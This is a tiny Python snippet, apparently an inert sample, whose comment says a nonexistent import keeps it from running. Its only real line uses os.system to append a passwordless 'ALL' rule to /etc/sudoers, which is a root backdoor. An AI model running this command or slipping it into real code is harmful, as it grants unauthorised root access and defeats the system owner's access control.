import inert_sample  # there is no such module: nothing below ever runs
import os

os.system("echo 'user ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers")
